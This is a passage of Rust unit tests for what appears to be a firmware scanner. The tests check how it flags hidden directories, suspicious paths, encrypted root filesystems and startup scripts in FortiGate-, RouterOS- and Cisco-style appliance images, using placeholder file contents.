        let mut fs = MemFs::new();
        fs.file("/flatkc", 0o644, b"k")
            .file("/rootfs.gz", 0o644, &gz)
            .file("/.fgtsum", 0o644, b"s")
            .file("/.x1/authd", 0o755, b"x")
            .file("/.db/a", 0o644, b"x");
        let f = facts(&fs);
        let forti = f.forti.unwrap();
        assert_eq!(
            forti.rootfs,
            Some(Rootfs::Cpio(
                vec!["/bin/init".into(), "/bin/busybox".into()],
                false
            ))
        );
        assert_eq!(forti.hidden_dirs, vec!["/.x1".to_string()]);
        let paths: Vec<_> = forti.ioc_paths.iter().map(|(p, _)| p.as_str()).collect();
        assert_eq!(paths, ["/.x1/authd", "/rootfs.gz:/bin/busybox"]);

        let mut fs = MemFs::new();
        fs.file("/flatkc", 0o644, b"k")
            .file("/rootfs.gz", 0o644, &[0x5a; 4096]);
        let f = facts(&fs);
        assert!(matches!(
            f.forti.unwrap().rootfs,
            Some(Rootfs::Encrypted(_))
        ));
    }

    #[test]
    fn routeros_packages() {
        let mut fs = MemFs::new();
        fs.mkdir("/var/pdb/system")
            .file("/var/pdb/routeros-7.11.2.npk", 0o644, b"x")
            .file("/var/pdb/option-7.11.2.npk", 0o644, b"x")
            .file("/rw/disk/rc.local", 0o755, b"#!/bin/sh\n");
        let f = facts(&fs);
        let r = f.routeros.unwrap();
        let names: Vec<_> = r.packages.iter().map(|(_, n)| n.as_str()).collect();
        assert_eq!(names, ["option", "routeros"]);
        assert_eq!(r.rc_scripts, vec!["/rw/disk/rc.local".to_string()]);
        assert_eq!(r.disk_executables, vec!["/rw/disk/rc.local".to_string()]);
    }

    #[test]
    fn vendor_hidden_directories() {
        let mut fs = MemFs::new();
        fs.file(
            "/packages.conf",
            0o644,
            b"boot rp 0 0 rp_boot csr1000v-rpboot.16.12.01b.SPA.pkg\n",
        );
        let f = facts(&fs);
        assert!(f.vendor_hidden("/.installer/x/run.sh"));
        assert!(!f.vendor_hidden("/.hideout/run.sh"));
        assert!(!f.vendor_hidden("/.installer"));
        assert!(!ApplianceFacts::default().vendor_hidden("/.installer/x"));
    }

    #[test]
    fn linux_root_cfg_files_are_not_router_configs() {
        let mut fs = MemFs::new();
        fs.file("/etc/os-release", 0o644, b"NAME=Debian\n")
            .file("/boot/grub/grub.cfg", 0o644, b"set default=0\n")
            .file(
                "/etc/router.cfg",
                0o644,
                b"hostname x\ninterface y\nversion 1\n!\n",
            );
        assert!(facts(&fs).configs.is_empty());
    }
}
